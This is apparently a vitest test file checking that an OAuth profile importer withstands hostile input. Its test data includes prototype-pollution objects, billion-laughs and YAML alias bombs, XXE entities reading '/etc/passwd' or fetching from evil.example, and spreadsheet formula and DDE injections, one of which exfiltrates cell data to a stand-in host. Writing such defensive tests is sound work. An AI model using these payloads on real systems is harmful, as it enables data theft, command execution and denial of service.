import { Window } from 'happy-dom';
import { describe, expect, test } from 'vitest';
import { readText } from '../../../src/features/read-text.ts';
import { writeProfileFile } from '../../../src/formats/profile-file.ts';
import { readDelivery } from '../../../src/formats/read/delivery.ts';
import { readJwks } from '../../../src/formats/read/jwks.ts';
import { readYaml } from '../../../src/formats/read/yaml-text.ts';
import { writePostman } from '../../../src/formats/write-postman.ts';
import { aProfile } from '../../core/support/records.ts';
import { awaitReadOrRefused, readOrRefused } from '../../formats/read/read-or-refused.ts';

const page = new Window();
const ports = {
  randomId: () => 'new',
  parseXml: (text: string) => new page.DOMParser().parseFromString(text, 'text/xml') as unknown as Document,
  parseYaml: async (text: string, format: string) => readYaml(text, format),
};

/** What comes of a text that I drop; undefined: it is refused, with a sentence and what to do. */
const drop = (text: string) => awaitReadOrRefused(readText(text, ports));

/** Each kind of text that is read, as the beginning and the end of a good one. */
const kinds: Record<string, (inside: string) => string> = {
  'a profile file': (inside) => `{"tokendock":"profiles","version":1,"secrets":false,"profiles":[${inside}]}`,
  'a Postman collection': (inside) =>
    `{"info":{"name":"x","schema":"https://schema.getpostman.com/json/collection/v2.1.0/collection.json"},"item":[${inside}]}`,
  'an OpenAPI document': (inside) => `{"openapi":"3.1.0","components":{"securitySchemes":{"a":${inside}}}}`,
  'an OpenAPI document in YAML': (inside) => `openapi: 3.1.0\ncomponents:\n  securitySchemes:\n    a: ${inside}\n`,
  'an <oauth2> element': (inside) =>
    `<oauth2 name="x"><token-url path="${inside.replace(/["<&]/g, '')}">${inside}</token-url></oauth2>`,
  'parameters as JSON': (inside) => `{"client_id":"a","x":${inside}}`,
  'pasted parameters': (inside) => `client_id=a&x=${inside}`,
  'a curl command': (inside) => `curl https://id.acme.example/token -d 'client_id=a' -d '${inside}'`,
  'an HTTP request': (inside) => `POST /token HTTP/1.1\nHost: id.acme.example\nX-A: b\n\nclient_id=a&x=${inside}`,
};
const all = Object.entries(kinds);
/** Reading YAML may take minutes: it has a worker of its own, which is stopped (test/platform/in-worker.test.ts). */
const withoutYaml = all.filter(([name]) => !name.includes('YAML'));

function isUntouched(): void {
  for (const name of ['polluted', 'client_id', 'toJSON', 'isAdmin']) {
    expect(Object.hasOwn(Object.prototype, name)).toBe(false);
    expect(Object.hasOwn(Array.prototype, name)).toBe(false);
    expect(Object.hasOwn(Function.prototype, name)).toBe(false);
  }
}

describe('Names that mean something to JavaScript do nothing', () => {
  const poison =
    '{"__proto__":{"polluted":1,"client_id":"evil"},"constructor":{"prototype":{"polluted":1}},"toString":1,"hasOwnProperty":1}';

  test.each(all)('inside of %s', async (_, kind) => {
    const read = await drop(kind(poison));
    isUntouched();
    for (const { draft } of read?.profiles ?? []) {
      expect(Object.getPrototypeOf(draft)).toBe(Object.prototype);
      expect(draft.client_id).not.toBe('evil');
    }
  });

  test.each([
    [
      'flows and schemes',
      `{"openapi":"3.1.0","components":{"securitySchemes":{"__proto__":{"type":"oauth2","flows":{"__proto__":{"tokenUrl":"/t","scopes":{"__proto__":"x"}},"constructor":{"tokenUrl":"/t"},"clientCredentials":{"tokenUrl":"https://a.example/t","scopes":{"__proto__":"x"}}}}}}}`,
    ],
    [
      'variables of a server',
      `{"openapi":"3.1.0","servers":[{"url":"https://{__proto__}.{constructor}.example","variables":{"__proto__":{"default":"evil"}}}],"components":{"securitySchemes":{"a":{"type":"oauth2","flows":{"clientCredentials":{"tokenUrl":"/t","scopes":{}}}}}}}`,
    ],
    [
      'variables of a collection',
      `{"info":{"name":"x"},"variable":[{"key":"__proto__","value":"evil"},{"key":"constructor","value":"evil"}],"auth":{"type":"oauth2","oauth2":[{"key":"__proto__","value":{"polluted":1}},{"key":"clientId","value":"{{__proto__}}{{constructor}}{{toString}}"},{"key":"accessTokenUrl","value":"https://a.example/t"}]},"item":[]}`,
    ],
    ['parameters', '__proto__=1&constructor=2&client_id=a&toString=3&hasOwnProperty=4'],
    ['endpoints', '__proto__: https://evil.example/token\nconstructor: https://evil.example/token\nclient_id: a'],
  ])('as the names of %s', async (_, text) => {
    const read = await drop(text);
    isUntouched();
    for (const { draft } of read?.profiles ?? []) {
      expect(Object.keys(draft.endpoints)).not.toContain('__proto__');
      expect(JSON.stringify(draft)).not.toContain('native code');
      expect(JSON.stringify(draft.endpoints)).not.toContain('evil.example/token');
    }
  });

  test('in a key set, or in a delivery of a webhook', () => {
    readOrRefused(() => readJwks(`{"keys":[${poison}],"__proto__":{"keys":[]}}`));
    readOrRefused(() => readDelivery(`POST /hook HTTP/1.1\n__proto__: x\nconstructor: y\n\n${poison}`));
    isUntouched();
  });
});

describe('Fifty megabytes are refused before anybody reads them:', () => {
  const fifty = 'x'.repeat(5e7);

  test.each(all)('%s', async (_, kind) => {
    expect(await drop(kind(fifty))).toBeUndefined();
  });

  test.each(['{', '<oauth2>', 'openapi:\n', ' ', '"item":[', 'curl ', '\n', '"'])('nothing but %j', async (unit) => {
    expect(await drop(unit.repeat(5e7 / unit.length))).toBeUndefined();
  });
});

describe('What stands a hundred thousand deep is refused, or read:', () => {
  const deep = (open: string, close: string) => open.repeat(1e5) + close.repeat(1e5);

  test.each(withoutYaml)('lists in %s', async (_, kind) => {
    await drop(kind(deep('[', ']')));
  });

  test.each(withoutYaml)('objects in %s', async (_, kind) => {
    await drop(kind(deep('{"item":[', ']}')));
  });

  test.each<[string, string]>([
    ['elements', `<oauth2 name="x">${deep('<a>', '</a>')}</oauth2>`],
    ['elements without an end', `<oauth2 name="x">${'<a>'.repeat(1e5)}</oauth2>`],
    ['quotes of a shell', `curl ${deep('$(', ')')}`],
  ])('%s', async (_, text) => {
    await drop(text);
  });
});

describe('What blows itself up stays as small as it came:', () => {
  const levels = (define: (name: string, of: string) => string) =>
    [...'bcdefghij'].map((name, at) => define(name, [...'abcdefghi'][at] ?? '')).join('');

  test('entities of entities in XML (a billion laughs)', async () => {
    const entities = levels((name, of) => `<!ENTITY ${name} "${`&${of};`.repeat(10)}">`);
    for (const text of [
      `<!DOCTYPE oauth2 [<!ENTITY a "ha">${entities}]><oauth2 name="&j;"><token-url path="/t"/></oauth2>`,
      `<oauth2 name="x"><!DOCTYPE oauth2 [<!ENTITY a "ha">${entities}]><token-url path="&j;"/></oauth2>`,
    ]) {
      expect(JSON.stringify((await drop(text)) ?? '').length).toBeLessThan(10_000);
    }
  });

  test.each(['file:///etc/passwd', 'https://evil.example/x.dtd'])(
    'an entity that is somewhere else: %s',
    async (place) => {
      const asked: string[] = [];
      const realFetch = globalThis.fetch;
      globalThis.fetch = async (input) => {
        asked.push(String(input));
        return new Response();
      };
      try {
        await drop(
          `<!DOCTYPE oauth2 [<!ENTITY a SYSTEM "${place}">]><oauth2 name="&a;"><token-url path="&a;"/></oauth2>`,
        );
        await drop(`<oauth2 name="x"><!ENTITY a SYSTEM "${place}"><token-url path="&a;"/></oauth2>`);
      } finally {
        globalThis.fetch = realFetch;
      }
      expect(asked).toEqual([]);
    },
  );

  test('aliases of aliases in YAML', async () => {
    const aliases = levels((name, of) => `x${name}: &${name} [${Array(9).fill(`*${of}`)}]\n`);
    expect(await drop(`openapi: 3.1.0\nxa: &a [ha]\n${aliases}`)).toBeUndefined();
  });

  test('variables of variables in a collection', async () => {
    const variables = [...'bcdefghij'].map((key, at) => ({ key, value: `{{${'abcdefghi'[at]}}}`.repeat(10) }));
    const collection = {
      info: { name: 'x' },
      variable: [{ key: 'a', value: 'ha' }, ...variables, { key: 'z', value: '{{z}}{{z}}' }],
      auth: {
        type: 'oauth2',
        oauth2: [
          { key: 'clientId', value: '{{j}}{{z}}' },
          { key: 'accessTokenUrl', value: 'https://a.example/{{j}}' },
        ],
      },
      item: [],
    };
    expect(JSON.stringify((await drop(JSON.stringify(collection))) ?? '').length).toBeLessThan(200_000);
  });

  test('references of references in an OpenAPI document', async () => {
    const schemes = { a: { $ref: '#/components/securitySchemes/b' }, b: { $ref: '#/components/securitySchemes/a' } };
    await drop(JSON.stringify({ openapi: '3.1.0', components: { securitySchemes: schemes } }));
  });
});

describe('A hundred and fifty thousand characters of one thing are read, or refused, in a moment:', () => {
  test.each(withoutYaml)('in %s', async (_, kind) => {
    for (const unit of ['"', '{{', '<a ', "'", '&', '\\', '[', ' ', '\n', ': ', '*a ', '- ', '%', '$(', 'eyJ', 'a.b'])
      await drop(kind(unit.repeat(150_000 / unit.length)));
  });
});

describe('Formulas are texts like any other:', () => {
  test.each(['=HYPERLINK("https://evil.example/?"&A1)', '+1+cmd|" /C calc"!A0', '-2+3', '@SUM(1)', '\t=1'])(
    '%s',
    async (name) => {
      const text = writeProfileFile([aProfile({ name, description: name })], { withSecrets: false }).text;
      const [read] = (await drop(text))?.profiles ?? [];
      expect(read?.draft).toMatchObject({ name, description: name });
      // What is written is JSON or XML, of which no program takes a name for a formula.
      for (const written of [text, writePostman([aProfile({ name })], { withSecrets: false }).text])
        expect(() => JSON.parse(written)).not.toThrow();
    },
  );
});
